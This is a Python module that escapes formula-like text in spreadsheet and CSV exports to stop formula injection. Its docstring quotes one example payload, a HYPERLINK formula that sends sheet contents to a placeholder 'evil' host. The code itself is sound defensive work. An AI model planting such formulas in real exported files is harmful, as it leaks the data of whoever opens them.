"""Cells of the spreadsheets and CSV files Weijian writes, made safe to open.

A text that starts with = + - @ (or a tab or carriage return before one) is run as a formula
by Excel, WPS and LibreOffice when the file is opened: an org or task name such as
`=HYPERLINK("http://evil/?"&A1)` would otherwise leak the sheet, or start a program through DDE.
Every export passes its text through here:

- Excel (openpyxl): such a text is stored as a string cell with Excel's quote prefix (the cell
  shows the text exactly as written and stays text when edited), never as a formula;
- CSV: such a text gets a leading apostrophe, the usual defence spreadsheets understand.

Numbers stay numbers: an int, float or Decimal is a numeric cell, and in CSV a text that is a
plain number ("-12.5") is left alone, since a negative figure is a figure, not a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal

_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_risky(text: str) -> bool:
    """True for a text a spreadsheet would read as a formula."""
    return text.startswith(_LEADS) and not _PLAIN_NUMBER.fullmatch(text)


def csv_cell(value) -> str | int | float | Decimal:
    """One CSV field: numbers as they are, a risky text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, str):
        return value
    return "'" + value if is_risky(value) else value


def from_csv_cell(text: str) -> str:
    """The text a CSV field held before `csv_cell` escaped it: a file exported here and read
    back gives the names as they were written."""
    if text.startswith("'") and is_risky(text[1:]):
        return text[1:]
    return text


def csv_row(values: Iterable) -> list:
    return [csv_cell(v) for v in values]


def protect_workbook(wb) -> None:
    """Before saving an openpyxl workbook: every risky text cell of every sheet becomes a
    string cell with Excel's quote prefix (shown as written, never run)."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                protect(cell)


def protect(cell) -> None:
    """Make an openpyxl cell holding a risky text a string cell that Excel will not run."""
    if isinstance(cell.value, str) and is_risky(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


__all__ = ["csv_cell", "csv_row", "from_csv_cell", "is_risky", "protect", "protect_workbook"]
